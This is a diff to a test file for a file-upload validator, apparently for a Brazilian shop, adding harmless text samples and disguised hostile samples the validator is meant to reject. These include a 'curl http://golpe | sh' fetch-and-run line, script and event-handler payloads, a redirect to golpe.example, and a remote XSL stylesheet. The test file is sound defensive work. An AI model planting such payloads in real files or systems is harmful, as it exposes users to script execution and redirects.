@@ -123,6 +123,8 @@ txt('txt with formula-ish', '=) obrigado!\n- produto(s) sem estoque\n');
 txt('txt email copy', 'De: ana@loja.com.br\nAssunto: reembolso\n\nOlá, segue o comprovante.\n');
 txt('txt markdown-ish', '# Resumo\n* item 1\n* item 2\n');
 txt('txt with xml-ish later', 'nota\nveja o XML <nfeProc> anexado\n');
+txt('txt quoting an e-mail address', '<ana@loja.com.br> escreveu:\nOlá, segue o comprovante.\n');
+txt('txt with an order in angle brackets', '<pedido 1042> atrasado\n<3 obrigada\n');
 // images
 benign.push(['png', png(), 'print.png'], ['jpeg', jpeg(), 'foto.jpg'], ['webp', webp(), 'tela.webp']);
 benign.push(['jpeg named png', jpeg(), 'comprovante.png']);
@@ -462,6 +464,20 @@ bad.push(['exe as pdf', exe(), 'fatura.pdf'], ['exe as csv', exe(), 'pedidos.csv
 bad.push(['elf', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)]), 'nota.txt']);
 bad.push(['shell script', u('#!/bin/sh\ncurl http://golpe | sh\n'), 'nota.txt']);
 bad.push(['html as txt', u('<html><script>alert(1)</script></html>'), 'nota.txt']);
+bad.push([
+  'div with a handler as txt',
+  u('<div onclick="location=\'http://golpe.example\'">Ver pedido</div>'),
+  'nota.txt',
+]);
+bad.push(['paragraph as csv', u('<p>Pedido</p>;1\n'), 'pedidos.csv']);
+bad.push(['comment then page as txt', u('<!-- x -->\n<b>Pedido</b>'), 'nota.txt']);
+bad.push(['script after spaces as txt', u(`${' '.repeat(100)}<script>alert(1)</script>`), 'nota.txt']);
+bad.push([
+  'utf16 table as txt',
+  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<table onmouseover="x"><tr><td>1', 'utf16le')]),
+  'nota.txt',
+]);
+bad.push(['xml stylesheet as txt', u('<?xml-stylesheet type="text/xsl" href="http://golpe/x.xsl"?><a/>'), 'nota.txt']);
 bad.push(['svg as png name', u('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'print.png']);
 bad.push(['xlsm renamed xlsx', xlsm(), 'vendas.xlsx']);
 bad.push([
